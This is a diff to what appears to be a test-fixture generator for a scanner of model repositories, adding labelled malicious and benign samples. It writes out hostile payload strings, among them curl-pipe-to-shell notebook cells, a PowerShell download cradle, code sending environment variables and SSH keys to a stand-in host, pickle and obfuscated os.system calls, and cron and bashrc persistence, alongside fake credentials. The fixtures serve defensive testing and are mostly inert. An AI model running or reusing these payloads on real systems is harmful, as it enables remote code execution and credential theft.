@@ -62,7 +62,7 @@ ATTACKS = {
     "download-run": b"import urllib.request\nexec(urllib.request.urlopen('http://example.invalid/x').read())\n", "import-hidden": b"__import__('o' + 's').system('echo waag-inert')\n", "getattr-hidden": b"import builtins\ngetattr(builtins, 'ev' + 'al')('1')\n",
     "environment": b"import os, urllib.request\nurllib.request.urlopen('http://example.invalid/?' + str(dict(os.environ)))\n", "ssh-keys": b"from pathlib import Path\nimport requests\nrequests.post('http://example.invalid', data=Path('/dev/null').joinpath('.ssh/id_rsa').read_bytes())\n",
     "pickle-load": b"import pickle, base64\npickle.loads(base64.b64decode('gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu'))\n", "marshal": b"import marshal\nexec(marshal.loads(b'N'))\n", "ctypes": b"import ctypes\nctypes.CDLL('./evil.so')\n",
-    "lambda-exec": b"(lambda f: f('1'))(exec)\n", "hidden-column": b"import os" + b" " * 300 + b";os.system('echo waag-inert')\n", "far-down": b"x = 1\n" * 3000 + b"import os\nos.system('echo waag-inert')\n", "rot13": b"import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n",
+    "lambda-exec": b"(lambda f: f('1'))(exec)\n", "lambda-module": b"(lambda o: o.system('echo waag-inert'))(__import__('os'))\n", "handed-module": b"import os\n\n\ndef run(o):\n    o.system('echo waag-inert')\n\n\nrun(os)\n", "dunder": b"import os\n\n\nclass A:\n    __class_getitem__ = os.system\n\n\nA['echo waag-inert']\n", "decorator": b"@exec\n@input\nclass A:\n    pass\n", "hidden-column": b"import os" + b" " * 300 + b";os.system('echo waag-inert')\n", "far-down": b"x = 1\n" * 3000 + b"import os\nos.system('echo waag-inert')\n", "rot13": b"import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n",
     "cron": b"open('/dev/null/etc/cron.d/waag', 'w').write('* * * * * root true')\n", "bashrc": b"import os\nopen(os.path.expanduser('/dev/null/home/.bashrc'), 'a').write('echo waag-inert')\n", "pip-install": b"import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', 'http://example.invalid', 'waag-evil'])\n",
 }
 
@@ -91,8 +91,10 @@ def code() -> Shelf:
     for id, text in (("index", b"--index-url http://example.invalid/simple\nnumpy\n"), ("extra-index", b"--extra-index-url https://example.invalid/simple\nnumpy\n"), ("url", b"https://example.invalid/evil.whl\n"), ("git", b"git+https://example.invalid/evil.git\n"),
                      ("trusted-host", b"--trusted-host example.invalid\nnumpy\n"), ("at", b"numpy @ https://example.invalid/numpy.whl\n"), ("include", b"-r http://example.invalid/requirements.txt\n")):
         add(f"requirements-{id}", {"requirements.txt": text}, f"requirements from elsewhere: {id}")
-    for id, source in (("shell", "!curl http://example.invalid/x | sh"), ("magic", "%%bash\necho waag-inert"), ("system", "import os\nos.system('echo waag-inert')"), ("get-ipython", "get_ipython().system('echo waag-inert')"), ("pickle", "import pickle\npickle.load(open('x.pkl', 'rb'))"),
-                       ("exec", "exec(__import__('base64').b64decode('ZWNobyB3YWFnLWluZXJ0'))"), ("sx", "%sx echo waag-inert"), ("script", "%%script sh\necho waag-inert")):
+    # A notebook that starts programs or loads pickles is an ordinary notebook; one that fetches and runs is not, whatever way it starts the shell.
+    fetch = "curl http://example.invalid/x | sh"
+    for id, source in (("shell", "!" + fetch), ("magic", "%%bash\n" + fetch), ("system", f"import os\nos.system('{fetch}')"), ("get-ipython", f"get_ipython().system('{fetch}')"), ("cell-magic", f"get_ipython().run_cell_magic('bash', '', '{fetch}')"), ("assigned", "x = !" + fetch),
+                       ("exec", "exec(__import__('base64').b64decode('ZWNobyB3YWFnLWluZXJ0'))"), ("time", "%time exec(__import__('base64').b64decode('ZWNobyB3YWFnLWluZXJ0'))"), ("sx", "%sx " + fetch), ("script", "%%script sh\n" + fetch), ("writefile", "%%writefile ~/.bashrc\ntrue")):
         add(f"notebook-{id}", {"demo.ipynb": notebook("x = 1", source)}, f"a notebook with a payload: {id}")
     programs = {"elf": ("libhelper.so", elf(), "a library"), "pe": ("loader.exe", pe(), "a Windows program"), "dll": ("helper.dll", pe(), "a Windows library"), "batch": ("run.bat", b"@echo off\r\necho waag-inert\r\n", "a batch file"),
                 "powershell": ("run.ps1", b"IEX (New-Object Net.WebClient).DownloadString('http://example.invalid')\r\n", "a PowerShell script"), "vbs": ("run.vbs", b'CreateObject("WScript.Shell").Run "echo waag-inert"\r\n', "a Visual Basic script"),
@@ -144,12 +146,13 @@ def content() -> Shelf:
     remap5["model"]["vocab"] = {"<unk>": 0, "hello": 1, "allow": 2, "deny": 2}
     add("tokenizer-vocab-same-id", {**base(), "tokenizer.json": js(remap5)}, "two words of the vocabulary under one number")
     # Secrets and addresses.
-    secrets = {"aws": "AKIA" + "Q3EGWAAGINERT77Z", "github": "ghp_" + "w4agInertw4agInertw4agInertw4agInert", "huggingface": "hf_" + "wAagInErTwAagInErTwAagInErTwAagInEr", "openai": "sk-proj-" + "w4agInertw4agInertw4agInertw4agInertw4agInert42", "slack": "xoxb-" + "123456789012-123456789012-w4agInertw4agInertw4agIn",
-               "private-key": "-----BEGIN " + "RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAw4agInert\n-----END RSA " + "PRIVATE KEY-----", "google": "AIza" + "SyW4agInertW4agInertW4agInertW4agIn"}
+    # Drawn from a digest, as real ones are from chance: what repeats words is a placeholder, and an AWS key's name alone is no secret.
+    secrets = {"aws": "AKIA" + drawn(16, UPPER) + " " + drawn(40), "github": "ghp_" + drawn(36), "huggingface": "hf_" + drawn(34, LETTERS), "openai": "sk-proj-" + drawn(120), "slack": "xoxb-" + drawn(12, DIGITS) + "-" + drawn(12, DIGITS) + "-" + drawn(24),
+               "private-key": "-----BEGIN " + "RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA" + drawn(48) + "\n" + drawn(64) + "\n-----END RSA " + "PRIVATE KEY-----", "google": "AIza" + "Sy" + drawn(33)}
     for id, value in secrets.items():
         add(f"secret-{id}", {**base(), "config.json": js({"model_type": "llama", "token": value})}, f"a credential in the configuration: {id}")
         add(f"secret-metadata-{id}", plain_safetensors({"token": value}), f"a credential in the metadata: {id}")
-    add("secret-env", {**base(), ".env": f"AWS_ACCESS_KEY_ID={secrets['aws']}\n".encode()}, "a credential in .env")
+    add("secret-env", {**base(), ".env": "AWS_ACCESS_KEY_ID={}\nAWS_SECRET_ACCESS_KEY={}\n".format(*secrets["aws"].split()).encode()}, "a credential in .env")
     add("address-onion", plain_safetensors({"callback": "http://waaginertwaaginertwaaginertwaaginertwaaginertwaaginertwa.onion/x"}), "an address in a hidden network in the metadata")
     add("address-webhook", {**base(), "config.json": js({"model_type": "llama", "callback": "https://discord.com/api/webhooks/000000/waag-inert"})}, "a webhook in the configuration")
     add("address-ip", {**base(), "config.json": js({"model_type": "llama", "endpoint": "http://192.0.2.66:4444/c2"})}, "an address of a number in the configuration")
@@ -162,6 +165,19 @@ def content() -> Shelf:
     add("polyglot-pdf-zip", b"%PDF-1.4\n1 0 obj<<>>endobj\n" + zip_bytes([Member("data.pkl", PICKLE)]), "a document and a zip", name="paper.pdf")
     add("polyglot-png-zip", png() + zip_bytes([Member("archive/data.pkl", PICKLE), Member("archive/version", b"3\n")]), "a picture and a torch file", "deny", "logo.png")
     return shelf
+
+
+LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
+DIGITS = "0123456789"
+UPPER = LETTERS[:26] + "234567"
+
+
+def drawn(length: int, alphabet: str = LETTERS + DIGITS) -> str:
+    """Characters that look drawn at random and are the same every time; they open nothing."""
+    out = ""
+    for round in range(length):
+        out += alphabet[hashlib.sha256(f"waag-inert {length} {alphabet} {round}".encode()).digest()[0] % len(alphabet)]
+    return out
 
 
 def bits(payload: bytes) -> bytes:
@@ -199,10 +215,11 @@ def good() -> Shelf:
     add("shards", {"model.safetensors.index.json": js({"metadata": {"total_size": 64}, "weight_map": {"weight": "model.safetensors", "bias": "model.safetensors"}})}, "an index of shards")
     add("trainer-state", {"trainer_state.json": js({"epoch": 3.0, "eval_loss": 0.5, "log_history": [{"eval_loss": 0.5, "eval_exec": 1}]}), "all_results.json": js({"eval_accuracy": 0.9})}, "a trainer's state")
     add("addresses", {"config.json": js({"model_type": "llama", "_name_or_path": "https://huggingface.co/waag/model", "license_link": "https://www.apache.org/licenses/LICENSE-2.0"})}, "ordinary addresses")
-    add("example-keys", {"README.md": README + b"\nSet `HF_TOKEN=hf_...` and `OPENAI_API_KEY=sk-...` first.\n"}, "placeholders of credentials")
+    add("example-keys", {"README.md": README + b"\nSet `HF_TOKEN=hf_...` and `OPENAI_API_KEY=sk-...` first.\n", "config.json": js({"model_type": "llama", "token": "hf_" + "x" * 34, "key": "ghp_" + "yourTokenHere" * 3})}, "placeholders of credentials")
     add("onnx-beside", {"onnx/model.onnx": onnx_model()}, "an ONNX export beside the weights")
     add("script", {"scripts/train.sh": b"#!/bin/sh\nset -e\npython train.py --epochs 3\n"}, "an ordinary shell script")
     shelf.good("notebook", notebook("import numpy as np\nx = np.arange(3)", {"cell_type": "markdown", "metadata": {}, "source": ["# Demo\n", "Never `eval()` this."]}, "print(x.sum())"), "an ordinary notebook", name="demo.ipynb")
+    shelf.good("notebook-shell", notebook("!pip install -q torch", "!ls -l", "!nvidia-smi", "%%bash\nmkdir -p out\necho done", "import pickle\nx = pickle.load(open('x.pkl', 'rb'))", "import os\nos.system('python train.py')"), "a notebook that installs, lists and loads", name="demo.ipynb")
     shelf.good("notebook-outputs", notebook("x", outputs=[{"output_type": "execute_result", "execution_count": 1, "data": {"text/plain": ["array([0, 1])"], "image/png": "iVBORw0KGgo="}, "metadata": {}}]), "a notebook with a picture", name="demo.ipynb")
     shelf.good("train-script", TRAIN, "an ordinary training script", name="train.py")
     shelf.good("csv", b"text,label\nnever eval() this,0\nos.system('x') is a word,1\n", "a data set in a table", name="train.csv")
